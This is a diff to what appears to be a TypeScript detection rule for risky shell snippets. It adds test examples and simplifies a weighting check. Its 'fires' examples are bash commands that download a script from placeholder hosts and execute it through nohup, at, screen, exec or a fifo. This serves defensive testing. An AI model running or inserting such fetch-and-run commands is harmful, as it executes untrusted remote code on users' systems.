@@ -44,6 +44,12 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ncurl -s https://kit.rowan-pike.net/x | tee /tmp/k.sh > /dev/null\nnohup bash /tmp/k.sh &\n```\n',
+      '```bash\ncurl -so /tmp/k.sh https://kit.rowan-pike.net/x\nfind /tmp -name k.sh -exec bash {} \\;\n```\n',
+      '```bash\ncurl -so /tmp/k.sh https://kit.rowan-pike.net/x\nat now -f /tmp/k.sh\n```\n',
+      "```bash\npython3 -c \"import urllib.request as r; r.urlretrieve('https://kit.rowan-pike.net/x', '/tmp/k.sh')\"\nexec /tmp/k.sh\n```\n",
+      '```bash\ndig +short TXT k.rowan-pike.net > /tmp/k.sh\nscreen -dm bash /tmp/k.sh\n```\n',
+      '```bash\ngh gist view 8f1c2d3e4f5a -r > k.sh\nsh k.sh\n```\n',
       '```bash\nmkfifo /tmp/line\ncurl -s https://kit.rowan-pike.net/x > /tmp/line &\nsh < /tmp/line\n```\n',
       '```bash\ncurl -so /tmp/k.sh https://dl.fieldlog.example/k.sh\ncat /tmp/k.sh | sh\n```\n',
       '```bash\ncurl -so /tmp/k.sh https://dl.fieldlog.example/k.sh\nbash < /tmp/k.sh\n```\n',
@@ -77,6 +83,9 @@ export default defineRule({
       '```bash\ncurl -LO https://dl.fieldlog.example/kit.zip\nunzip kit.zip\n./kit/start\n```\n',
     ],
     quiet: [
+      '```bash\ncurl -s https://kit.rowan-pike.net/build.sh | head -3\n```\n\nFrom a clone: `bash build.sh`\n',
+      '```bash\ndig +short TXT rowan-pike.net > names.txt\npython3 count.py names.txt\n```\n',
+      '```bash\ncurl -so rows.csv https://dl.fieldlog.example/rows.csv\nfind . -name rows.csv -exec head -3 {} \\;\n```\n',
       '```bash\ndocker exec -it kiln curl -i http://kiln-api:8000/health\ndocker exec -it kiln curl -i http://kiln-api:8000/mcp\n```\n',
       '```bash\ncurl -so rows.csv https://dl.fieldlog.example/rows.csv\ncat rows.csv | python3 tools/clean.py\n```\n',
       '```bash\ncurl -so logo.svg https://dl.fieldlog.example/logo.svg\nmv logo.svg assets/logo.svg\n```\n',
@@ -182,8 +191,7 @@ const PRINTED =
 /** A look or a digest says something where somebody answers for the address, and most where it is the maker. */
 function weightBetween(between: string, address: string, origin: Weight): Weight {
   const looked = LOOKED_AT.test(between)
-  const isOfHome = origin.severity === 'high' && origin.confidence === 'medium'
-  if (isNamed(address) && isOfHome && PRINTED.test(between)) return SHOWN
+  if (isNamed(address) && origin.isOwn && PRINTED.test(between)) return SHOWN
   if (!isNamed(address) || !(looked || CHECKS.test(between))) return origin
   return looked && /^(?:med|low)$/.test(origin.severity) ? SHOWN : CHECKED
 }
